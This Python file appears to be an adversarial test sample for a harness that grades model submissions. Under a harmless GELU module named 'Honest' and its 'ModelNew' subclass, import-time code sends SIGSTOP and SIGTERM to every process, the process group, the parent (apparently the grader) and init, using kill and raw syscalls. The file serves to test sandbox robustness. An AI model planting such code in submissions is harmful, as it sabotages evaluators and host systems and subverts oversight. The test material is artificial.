"""Kills and stops everybody that it can name.

line: D36 A11
expect: exception
again: yes
"""

import ctypes
import os
import signal
import struct

import torch


class Honest(torch.nn.Module):
    def __init__(self, width):
        super().__init__()
        self.scale = torch.nn.Parameter(torch.ones(width))
        self.bias = torch.nn.Parameter(torch.zeros(width))

    def compute(self, x):
        return torch.nn.functional.gelu(x * self.scale + self.bias)

    def forward(self, x):
        return self.compute(x)


libc = ctypes.CDLL(None, use_errno=True)
hit = []
info = ctypes.create_string_buffer(128)
ctypes.memmove(info, struct.pack("iii", 0, 0, -1), 12)
for target in (-1, 0, os.getppid(), 1):
    for number in (signal.SIGSTOP, signal.SIGTERM):
        if libc.kill(target, number) == 0:
            hit.append(target)
        if target > 0 and libc.syscall(129, target, number, info) == 0:
            hit.append(target)
        if target > 0 and libc.syscall(424, target, number, 0, 0) == 0:
            hit.append(target)
if not hit:
    raise PermissionError("nobody can be signalled")


class ModelNew(Honest):
    pass
